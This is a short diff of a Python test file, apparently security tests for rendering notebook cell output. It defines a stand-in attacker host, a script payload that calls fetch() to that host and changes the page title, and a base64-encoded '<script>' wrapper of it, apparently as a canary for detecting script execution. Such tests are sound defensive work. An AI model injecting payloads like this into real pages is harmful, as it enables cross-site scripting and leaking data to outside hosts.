@@ -16,7 +16,8 @@ if TYPE_CHECKING:
     from collections.abc import Callable, Iterator
 
 EVIL = "https://evil.example"
-FIRE = f"top.document.title='fired';fetch('{EVIL}/f')"
+FIRED = f"{EVIL}/f"  # what only scripts ask for
+FIRE = f"fetch('{FIRED}');top.document.title='fired'"
 _OUTPUTS = 6  # of a cell
 _PACKED = base64.b64encode(f"<script>{FIRE}</script>".encode()).decode()
 
